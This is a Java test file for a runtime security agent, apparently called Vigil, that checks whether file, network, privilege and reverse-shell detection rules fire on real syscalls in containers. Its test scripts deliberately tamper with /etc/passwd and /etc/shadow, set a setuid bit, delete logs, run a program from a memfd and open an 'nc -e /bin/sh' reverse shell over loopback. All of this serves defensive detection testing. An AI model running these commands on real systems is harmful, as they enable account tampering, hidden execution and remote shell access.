package dev.vigil.agent;

import com.fasterxml.jackson.databind.JsonNode;
import dev.vigil.containers.Podman;
import dev.vigil.events.alert.Alert;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;

import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.List;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * The default rules on file, network and privilege events fire on real syscalls in a real
 * container, fed by the syscalls sensor: the path comes from the kernel's struct file, the
 * flags and modes from the syscall, the connection's ends from the socket.
 */
@Tag("kernel")
class SyscallRulesTest {
    private static final Duration WAIT = Duration.ofSeconds(20);
    private static Podman podman;
    private static Agent agent;
    private static CapturingSink sink;
    private static Path work;
    private static Path helper;

    @BeforeAll
    static void start() throws Exception {
        Podman.ensureImage();
        podman = new Podman();
        work = Files.createTempDirectory("vigil-sys");
        helper = work.resolve("escape-helper");
        Podman.Result cc = Podman.exec(List.of("gcc", "-static", "-O2", "-o", helper.toString(),
                Path.of("src/test/c/escape-helper.c").toAbsolutePath().toString()), Duration.ofSeconds(60));
        assertThat(cc.exit()).as("gcc: %s", cc.output()).isZero();
        Path rules = work.resolve("connect-rule.yaml");
        // No default rule fires on a plain loopback connect from a non-shell (the outbound ones need
        // a shell or the cloud metadata address, which a test must not reach): a site rule does.
        Files.writeString(rules, """
                - rule: Vigil test connect to 9999 in a container
                  desc: a test rule on connect records
                  condition: evt.type = connect and evt.dir = < and fd.typechar = 4 and fd.sport = 9999 and container.id != host
                  output: test connect (connection=%fd.name sip=%fd.sip proc=%proc.name container=%container.name)
                  priority: NOTICE
                  tags: [test]
                - rule: Vigil test accept on 9999 in a container
                  desc: a test rule on accept records
                  condition: evt.type in (accept, accept4) and evt.dir = < and fd.sport = 9999 and container.id != host
                  output: test accept (connection=%fd.name cip=%fd.cip proc=%proc.name)
                  priority: NOTICE
                  tags: [test]
                - rule: Vigil test listen on 9999 in a container
                  desc: a test rule on listen records
                  condition: evt.type = listen and evt.dir = < and fd.sport = 9999 and container.id != host
                  output: test listen (addr=%fd.name backlog=%evt.arg.backlog proc=%proc.name)
                  priority: NOTICE
                  tags: [test]
                - rule: Vigil test rename into etc in a container
                  desc: no default rule reads renames; a file moved into /etc
                  condition: evt.type in (rename, renameat, renameat2) and evt.dir = < and evt.arg.newpath startswith /etc/ and container.id != host
                  output: test rename (old=%evt.arg.oldpath new=%evt.arg.newpath file=%fd.name proc=%proc.name)
                  priority: NOTICE
                  tags: [test]
                - rule: Vigil test chown to 1234 in a container
                  desc: no default rule reads chowns
                  condition: evt.type in (chown, fchown, lchown, fchownat) and evt.dir = < and evt.arg.uid = 1234 and container.id != host
                  output: test chown (file=%fd.name uid=%evt.arg.uid gid=%evt.arg.gid proc=%proc.name)
                  priority: NOTICE
                  tags: [test]
                - rule: Vigil test hard link in a container
                  desc: no default rule reads links
                  condition: evt.type in (link, linkat) and evt.dir = < and evt.arg.newpath endswith /vigil-hard and container.id != host
                  output: test link (old=%evt.arg.oldpath new=%evt.arg.newpath proc=%proc.name)
                  priority: NOTICE
                  tags: [test]
                - rule: Vigil test mknod in a container
                  desc: no default rule reads mknod
                  condition: evt.type in (mknod, mknodat) and evt.dir = < and evt.arg.path endswith /vigil-fifo and container.id != host
                  output: test mknod (file=%fd.name mode=%evt.arg.mode proc=%proc.name)
                  priority: NOTICE
                  tags: [test]
                - rule: Vigil test setgid to 4321
                  desc: no default rule reads setgid
                  condition: evt.type in (setgid, setregid, setresgid) and evt.dir = < and evt.arg.gid = 4321
                  output: test setgid (gid=%evt.arg.gid proc=%proc.name)
                  priority: NOTICE
                  tags: [test]
                - rule: Vigil test capset by setpriv
                  desc: no default rule reads capset
                  condition: evt.type = capset and evt.dir = < and proc.name = setpriv and evt.arg.cap_effective contains CAP_SYS_ADMIN
                  output: test capset (inheritable=[%evt.arg.cap_inheritable] proc=%proc.name)
                  priority: NOTICE
                  tags: [test]
                - rule: Vigil test UDP connect to 53 in a container
                  desc: a connect record labelled by its socket's type
                  condition: evt.type = connect and evt.dir = < and fd.sport = 53 and container.id != host
                  output: test udp connect (l4=%fd.l4proto connection=%fd.name proc=%proc.name)
                  priority: NOTICE
                  tags: [test]
                - rule: Vigil test DNS query in a container
                  desc: no default rule reads DNS queries
                  condition: evt.type in (sendto, sendmsg, sendmmsg, write) and evt.dir = < and fd.dport = 53 and container.id != host
                  output: test dns (name=%evt.arg.name l4=%fd.l4proto server=%fd.sip:%fd.sport proc=%proc.name syscall=%evt.type)
                  priority: NOTICE
                  tags: [test]
                """);
        sink = new CapturingSink(e -> e instanceof Alert);
        agent = TestConfigs.startWithRules(work, rules, sink);
    }

    @AfterAll
    static void stop() throws Exception {
        if (agent != null) agent.close();
        if (podman != null) podman.close();
    }

    private static String run(String name, String script) throws Exception {
        Path cid = work.resolve("cid-" + name);
        Podman.Result r = Podman.exec(List.of("podman", "--runtime", "runc", "run", "--rm", "--cidfile", cid.toString(),
                "--name", podman.name(name), "-v", helper + ":/helper:ro", Podman.IMAGE, "sh", "-c", script), Duration.ofSeconds(60));
        assertThat(r.exit()).as(r.output()).isZero();
        return Files.readString(cid).strip();
    }

    private static JsonNode alert(String rule, String container) throws InterruptedException {
        return alert(rule, container, "");
    }

    private static JsonNode alert(String rule, String container, String outputPart) throws InterruptedException {
        return sink.await(e -> e instanceof Alert a && a.rule().equals(rule) && a.container() != null && a.container().id().equals(container)
                && a.output().contains(outputPart), WAIT);
    }

    @Test
    void fileAndPrivilegeRulesFireOnRealSyscallsInAContainer() throws Exception {
        // busybox's sh runs chmod and rm in-process (its NOFORK applets): their syscalls are the shell's.
        String id = run("files", """
                echo 'x:x:1234:1234::/:/bin/sh' >> /etc/passwd
                echo 'root:*:1::::::' > /etc/shadow
                cat /etc/shadow > /dev/null
                touch /tmp/tool && chmod 4755 /tmp/tool
                mkdir -p /var/log && echo l > /var/log/app.log && rm /var/log/app.log
                mount -t tmpfs none /mnt 2>/dev/null
                true
                """);
        JsonNode passwd = alert("Account Database Written", id);
        assertThat(passwd.get("output").asText()).contains("/etc/passwd");
        assertThat(passwd.get("priority").asText()).isEqualTo("error");
        assertThat(passwd.get("container").get("id").asText()).isEqualTo(id);

        JsonNode shadow = alert("Shadow File Read", id);
        assertThat(shadow.get("output").asText()).contains("file=/etc/shadow").contains("proc=cat");
        // busybox: the image is /bin/busybox, the process is named after argv[0]
        assertThat(shadow.get("process").get("binary").asText()).isEqualTo("/bin/busybox");
        assertThat(shadow.get("ancestors").get(0).get("binary").asText()).isEqualTo("/bin/busybox");

        JsonNode setuid = alert("Setuid or Setgid Bit Set", id);
        assertThat(setuid.get("output").asText()).contains("file=/tmp/tool mode=S_ISUID|S_IRWXU|S_IRGRP|S_IXGRP|S_IROTH|S_IXOTH ");

        JsonNode log = alert("Log Files Deleted", id);
        assertThat(log.get("output").asText()).contains("file=/var/log/app.log ");

        // The runtime's own mounts while it sets the container up come first, from a process the agent
        // has no record of yet (see docs/rules.md); the shell's mount is the one this test made.
        JsonNode mount = alert("Mount Syscall in Container", id, "proc=mount");
        assertThat(mount.get("output").asText()).contains("source=none").contains("target=/mnt").contains("proc=mount");
        assertThat(agent.syscallStats().received()).hasEntrySatisfying("open_write", n -> assertThat(n).isPositive());
    }

    @Test
    void aConnectRecordCarriesBothEndsOfTheConnection() throws Exception {
        String id = run("connect", "nc -l -p 9999 > /dev/null & sleep 0.5; echo hi | nc -w 1 127.0.0.1 9999; wait; true");
        JsonNode a = alert("Vigil test connect to 9999 in a container", id);
        assertThat(a.get("output").asText()).containsPattern("connection=127\\.0\\.0\\.1:\\d+->127\\.0\\.0\\.1:9999 sip=127\\.0\\.0\\.1 proc=nc");
        // The listener's side: its listen (busybox nc listens on IPv6's any address, dual stack) and the
        // accepted connection, client first (an IPv4 peer on that socket reads as IPv4).
        assertThat(alert("Vigil test listen on 9999 in a container", id).get("output").asText())
                .containsPattern("addr=(\\[::\\]|0\\.0\\.0\\.0):9999 backlog=\\d+ proc=nc");
        assertThat(alert("Vigil test accept on 9999 in a container", id).get("output").asText())
                .containsPattern("connection=127\\.0\\.0\\.1:\\d+->127\\.0\\.0\\.1:9999 cip=127\\.0\\.0\\.1 proc=nc");
        // The container's own start (its runtime writes /etc/hosts and the like before the shell) wrote no account database.
        assertThat(sink.events()).filteredOn(e -> e instanceof Alert al && al.container() != null && al.container().id().equals(id))
                .noneMatch(e -> ((Alert) e).rule().equals("Account Database Written"));
    }

    @Test
    void anInterpreterStagingAProgramInAMemfdIsSeenAtCreationAndAtExecution() throws Exception {
        // On the host, by a process this test starts: /bin/true copied into a memfd and run from there.
        String script = "import os; fd = os.memfd_create('vigil-payload'); os.write(fd, open('/bin/true', 'rb').read()); "
                + "os.execv('/proc/self/fd/%d' % fd, ['vigil-memfd-true'])";
        Process p = new ProcessBuilder("/usr/bin/python3", "-c", script).inheritIO().start();
        assertThat(p.waitFor(30, java.util.concurrent.TimeUnit.SECONDS)).isTrue();
        assertThat(p.exitValue()).isZero();
        long pid = p.pid();
        JsonNode created = sink.await(e -> e instanceof Alert a && a.rule().equals("Executable Memory File Created by Interpreter")
                && a.process() != null && a.process().pid() == pid, WAIT);
        assertThat(created.get("output").asText()).startsWith("memfd created by an interpreter (name=vigil-payload proc=python3");
        JsonNode ran = sink.await(e -> e instanceof Alert a && a.rule().equals("Fileless Execution via Memfd")
                && a.process() != null && a.process().pid() == pid, WAIT);
        assertThat(ran.get("output").asText()).contains("exe=/memfd:vigil-payload");
    }

    @Test
    void aSocketDuplicatedOntoStandardStreamsIsAReverseShell() throws Exception {
        // busybox nc -e moves the connected socket onto fd 0 and dup2s it onto 1 before running the
        // program; the listener plays the attacker and tells the shell to exit. The shell's own
        // redirection (a file dup2ed onto stdout) is the benign neighbour.
        String id = run("dup", "(echo exit | timeout 10 nc -l -p 9998 > /dev/null) & sleep 0.5; "
                + "timeout 10 nc 127.0.0.1 9998 -e /bin/sh; echo x > /tmp/out; wait; true");
        JsonNode a = alert("Reverse Shell Standard Stream Redirection", id);
        assertThat(a.get("priority").asText()).isEqualTo("critical");
        assertThat(a.get("output").asText()).containsPattern("Socket redirected to standard stream [01] "
                + "\\(connection=127\\.0\\.0\\.1:\\d+->127\\.0\\.0\\.1:9998 proc=nc ");
        assertThat(sink.events()).filteredOn(e -> e instanceof Alert al && al.container() != null && al.container().id().equals(id)
                && al.rule().equals("Reverse Shell Standard Stream Redirection")).allMatch(e -> ((Alert) e).output().contains("proc=nc "));
    }

    @Test
    void renameChownAndLinkRecordsCarryBothPathsAndTheOwner() throws Exception {
        // busybox's sh may run mv, chown and ln in-process (NOFORK applets): proc is then sh.
        String id = run("rename", """
                echo x > /tmp/vigil-job && mkdir -p /etc/cron.d && mv /tmp/vigil-job /etc/cron.d/vigil-job
                touch /tmp/owned && chown 1234:5678 /tmp/owned
                ln /tmp/owned /tmp/vigil-hard
                mknod /tmp/vigil-fifo p
                true
                """);
        assertThat(alert("Vigil test rename into etc in a container", id).get("output").asText())
                .containsPattern("old=/tmp/vigil-job new=/etc/cron.d/vigil-job file=/etc/cron.d/vigil-job proc=(mv|sh)\\)");
        assertThat(alert("Vigil test chown to 1234 in a container", id).get("output").asText())
                .containsPattern("file=/tmp/owned uid=1234 gid=5678 proc=(chown|sh)\\)");
        assertThat(alert("Vigil test hard link in a container", id).get("output").asText())
                .containsPattern("old=/tmp/owned new=/tmp/vigil-hard proc=(ln|sh)\\)");
        assertThat(alert("Vigil test mknod in a container", id).get("output").asText())
                .containsPattern("file=/tmp/vigil-fifo mode=S_IFIFO\\|\\S* proc=(mknod|sh)\\)");
    }

    @Test
    void setgidAndCapsetRecordsCarryWhatTheProcessAskedFor() throws Exception {
        // On the host: setpriv sets the group ids, then drops every inheritable capability with capset.
        Process p = new ProcessBuilder("setpriv", "--regid", "4321", "--keep-groups", "--inh-caps", "-all", "true").inheritIO().start();
        assertThat(p.waitFor(30, java.util.concurrent.TimeUnit.SECONDS)).isTrue();
        assertThat(p.exitValue()).isZero();
        long pid = p.pid();
        JsonNode gid = sink.await(e -> e instanceof Alert a && a.rule().equals("Vigil test setgid to 4321")
                && a.process() != null && a.process().pid() == pid, WAIT);
        assertThat(gid.get("output").asText()).isEqualTo("test setgid (gid=4321 proc=setpriv)");
        JsonNode caps = sink.await(e -> e instanceof Alert a && a.rule().equals("Vigil test capset by setpriv")
                && a.process() != null && a.process().pid() == pid, WAIT);
        assertThat(caps.get("output").asText()).isEqualTo("test capset (inheritable=[] proc=setpriv)");
    }

    @Test
    void aDnsQueryCarriesTheQueriedNameAndTheServer() throws Exception {
        // Nothing answers on 127.0.0.1:53: the query is sent all the same. The helper connects its UDP
        // socket and uses send(2), which is sendto with no address: the peer comes from the socket.
        String id = run("dns", "/helper dns vigil-probe.example.com 127.0.0.1");
        assertThat(alert("Vigil test DNS query in a container", id).get("output").asText())
                .contains("name=vigil-probe.example.com l4=udp server=127.0.0.1:53 proc=helper syscall=sendto");
        // The connect before it, labelled udp by the socket's type.
        assertThat(alert("Vigil test UDP connect to 53 in a container", id).get("output").asText())
                .containsPattern("l4=udp connection=127\\.0\\.0\\.1:\\d+->127\\.0\\.0\\.1:53 proc=helper");
    }

    @Test
    void aDnsQuerySentAsGlibcDoesIsSeen() throws Exception {
        // glibc's resolver sends the A and AAAA questions in one sendmmsg(2) on an unconnected socket.
        String id = run("dns-mmsg", "/helper dns-mmsg vigil-mmsg.example.org 127.0.0.1");
        assertThat(alert("Vigil test DNS query in a container", id).get("output").asText())
                .contains("name=vigil-mmsg.example.org l4=udp server=127.0.0.1:53 proc=helper syscall=sendmmsg");
    }
}
